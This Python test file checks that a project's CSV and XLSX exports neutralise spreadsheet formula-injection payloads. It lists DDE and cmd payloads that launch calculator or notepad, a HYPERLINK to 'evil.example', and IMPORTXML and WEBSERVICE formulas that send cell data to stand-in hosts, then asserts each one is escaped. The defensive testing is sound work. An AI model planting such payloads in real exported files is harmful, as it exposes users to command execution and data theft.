"""Export safety against a list of formula-injection payloads (OWASP's CSV injection page)."""
import csv
import io

from openpyxl import load_workbook

from app.extracting import run_extraction
from facts.tables import ExportFilter, write_facts_csv, write_xlsx

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"Bấm vào\")",
    "+1+1", "-1+1", "@SUM(1+1)", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
    "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=WEBSERVICE(\"http://x\")",
]


def test_every_payload_is_inert_in_csv_and_xlsx(seeded_store, tmp_path):
    run_extraction(seeded_store)
    facts = seeded_store.facts(seeded_store.article_ids()[0])
    for f, p in zip(facts, PAYLOADS):
        seeded_store.decide(f.id, "edit", "lan", status="edited", changes={"unit": p} if f.kind == "quantity" else None,
                            note=p)
    buf = io.StringIO(newline="")
    write_facts_csv(seeded_store.iter_fact_rows(**ExportFilter(statuses=None).query()), buf)
    cells = [c for row in csv.reader(io.StringIO(buf.getvalue(), newline="")) for c in row]
    for p in PAYLOADS:
        assert p not in cells and "'" + p in cells, p
    for c in cells:
        assert not c.startswith(("=", "+", "@", "\t", "\r")), c
        if c.startswith("-"):
            float(c)  # only numbers may start with a minus
    path = tmp_path / "x.xlsx"
    write_xlsx(seeded_store.iter_fact_rows(**ExportFilter(statuses=None).query()), seeded_store.iter_article_rows(), path)
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows(values_only=True):
            for v in row:
                assert not (isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r"))), v
